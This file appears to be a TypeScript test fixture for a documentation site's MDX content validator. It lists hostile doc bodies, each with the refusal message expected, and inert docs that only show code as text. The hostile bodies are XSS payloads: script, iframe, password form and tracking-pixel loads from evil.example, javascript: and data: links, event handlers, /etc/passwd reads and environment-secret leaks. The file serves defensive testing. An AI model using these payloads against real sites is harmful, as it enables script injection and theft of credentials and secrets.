/*
 * Docs as an attacker with write access to one doc would write them (a CMS account, a pull request
 * to the content repository), each with a part of the message that refuses it. Shared by the unit
 * tests of the content profile, the fixture build (e2e/hostileContent.spec.ts) and the CMS preview's
 * browser test, so all three hold the same line.
 */

/** The variable the fixture build sets to a fake secret; no doc may get it into a page. */
export const SECRET_VARIABLE = 'TROVE_SECRET_PROBE';
/** A file a doc's code would write if it ran during the build (its name: `${WRITE_PROBE}-<case>`). */
export const WRITE_PROBE = 'trove-hostile-write-probe';

export interface HostileDoc {
  /** File name part: lowercase letters, digits and dashes. */
  name: string;
  body: string;
  /** A part of the message that refuses it. */
  refusal: string;
}

const writes = (name: string) =>
  `process.getBuiltinModule('node:fs').writeFileSync(require('node:os').tmpdir() + '/${WRITE_PROBE}-${name}', 'ran')`;

export const HOSTILE_DOCS: HostileDoc[] = [
  {
    name: 'secret-in-text',
    body: `Build host: {process.env.${SECRET_VARIABLE}}`,
    refusal: 'is JavaScript, and a doc cannot run code',
  },
  { name: 'write-in-text', body: `{${writes('text')}}`, refusal: 'is JavaScript' },
  { name: 'export-const', body: `export const probe = ${writes('export')}\n\nText.`, refusal: 'export is not allowed' },
  {
    name: 'import',
    body: `import fs from 'node:fs'\n\n{fs.readFileSync('/etc/passwd', 'utf8')}`,
    refusal: 'import is not allowed',
  },
  {
    name: 'expression-in-attribute',
    body: `<details open={${writes('attribute')}}><summary>S</summary></details>`,
    refusal: 'is JavaScript; write the value in quotes',
  },
  {
    name: 'spread-attribute',
    body: `<Tabs {...{ groupId: process.env.${SECRET_VARIABLE} }}><TabItem value="a">A</TabItem></Tabs>`,
    refusal: 'spreads JavaScript',
  },
  { name: 'script', body: '<script src="https://evil.example/x.js"></script>', refusal: '<script> is not allowed' },
  { name: 'inline-script', body: '<script>{`alert(document.cookie)`}</script>', refusal: '<script> is not allowed' },
  { name: 'iframe', body: '<iframe src="https://evil.example/"></iframe>', refusal: '<iframe> is not allowed' },
  { name: 'object', body: '<object data="https://evil.example/x.swf"></object>', refusal: '<object> is not allowed' },
  { name: 'embed', body: '<embed src="https://evil.example/x" />', refusal: '<embed> is not allowed' },
  { name: 'style-element', body: '<style>{`body { display: none }`}</style>', refusal: '<style> is not allowed' },
  {
    name: 'form',
    body: '<form action="https://evil.example/"><input name="password" /></form>',
    refusal: '<form> is not allowed',
  },
  { name: 'base', body: '<base href="https://evil.example/" />', refusal: '<base> is not allowed' },
  {
    name: 'meta-refresh',
    body: '<meta httpEquiv="refresh" content="0;url=https://evil.example/" />',
    refusal: '<meta> is not allowed',
  },
  {
    name: 'link-element',
    body: '<link rel="stylesheet" href="https://evil.example/x.css" />',
    refusal: '<link> is not allowed',
  },
  { name: 'anchor-element', body: '<a href="javascript:alert(1)">Click</a>', refusal: '<a> is not allowed' },
  { name: 'image-element', body: '<img src="x" onError="alert(1)" />', refusal: '<img> is not allowed' },
  { name: 'svg', body: '<svg onLoad="alert(1)"></svg>', refusal: '<svg> is not allowed' },
  {
    name: 'event-handler',
    body: '<details onToggle="alert(1)"><summary>S</summary></details>',
    refusal: 'the attribute "onToggle" is not allowed',
  },
  {
    name: 'nested-handler',
    body: '<details><summary onClick="alert(1)">S</summary>Hidden</details>',
    refusal: 'the attribute "onClick" is not allowed',
  },
  {
    name: 'style-attribute',
    body: '<kbd style="position:fixed;inset:0">K</kbd>',
    refusal: 'the attribute "style" is not allowed',
  },
  {
    name: 'inner-html',
    body: '<kbd dangerouslySetInnerHTML="&lt;img src=x onerror=alert(1)&gt;" />',
    refusal: 'the attribute "dangerouslySetInnerHTML" is not allowed',
  },
  {
    name: 'script-in-tab',
    body: '<Tabs>\n<TabItem value="a">\n\n<script>{`alert(1)`}</script>\n\n</TabItem>\n</Tabs>',
    refusal: '<script> is not allowed',
  },
  {
    name: 'script-in-admonition',
    body: ':::note\n<iframe src="https://evil.example/"></iframe>\n:::',
    refusal: '<iframe> is not allowed',
  },
  { name: 'unknown-component', body: '<Carousel items="x" />', refusal: '<Carousel> is not a component docs can use' },
  { name: 'member-component', body: '<Tabs.Item value="a" />', refusal: 'is not a component docs can use' },
  { name: 'fragment', body: '<>{`x`}</>', refusal: 'a fragment' },
  { name: 'javascript-link', body: '[Open](javascript:alert(document.domain))', refusal: 'the scheme "javascript:"' },
  { name: 'mixed-case-scheme', body: '[Open](JaVaScRiPt:alert(1))', refusal: 'the scheme "javascript:"' },
  { name: 'entity-encoded-scheme', body: '[Open](&#x6A;avascript:alert(1))', refusal: 'the scheme "javascript:"' },
  { name: 'tab-in-scheme', body: '[Open](<java&#9;script:alert(1)>)', refusal: 'control character' },
  { name: 'spaced-scheme', body: '[Open](< javascript:alert(1)>)', refusal: 'the scheme "javascript:"' },
  // MDX reads `<` as the start of an element, so Markdown's autolinks do not parse at all.
  { name: 'autolink-scheme', body: '<javascript:alert(1)>', refusal: 'Unexpected character' },
  { name: 'reference-link', body: '[Open][x]\n\n[x]: javascript:alert(1)', refusal: 'the scheme "javascript:"' },
  { name: 'data-link', body: '[Open](data:text/html,<script>alert(1)</script>)', refusal: 'the scheme "data:"' },
  { name: 'vbscript-link', body: '[Open](vbscript:msgbox(1))', refusal: 'the scheme "vbscript:"' },
  {
    name: 'data-image',
    body: '![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)',
    refusal: 'the scheme "data:"',
  },
  {
    name: 'foreign-image',
    body: '![pixel](https://evil.example/track.png)',
    refusal: 'is on another site (https://evil.example)',
  },
  {
    name: 'foreign-image-reference',
    body: '![pixel][p]\n\n[p]: https://evil.example/track.png',
    refusal: 'is on another site (https://evil.example)',
  },
  { name: 'protocol-relative', body: '[Elsewhere](//evil.example/path)', refusal: 'starts with "//"' },
  { name: 'backslash-host', body: '[Elsewhere](/\\evil.example)', refusal: 'holds a backslash' },
];

/** Docs that hold what looks like code, but only as text: they build, and show it as written. */
export const INERT_DOCS = [
  {
    name: 'escaped-braces',
    body: `Shown as text: \\{process.env.${SECRET_VARIABLE}\\}`,
    shows: `{process.env.${SECRET_VARIABLE}}`,
  },
  {
    name: 'braces-in-code',
    body: `Shown as code: \`{process.env.${SECRET_VARIABLE}}\``,
    shows: `{process.env.${SECRET_VARIABLE}}`,
  },
  { name: 'script-in-code-block', body: '```html\n<script>alert(1)</script>\n```', shows: '<script>alert(1)</script>' },
  { name: 'comment', body: `Before{/* process.env.${SECRET_VARIABLE} */}after.`, shows: 'Beforeafter.' },
] as const;
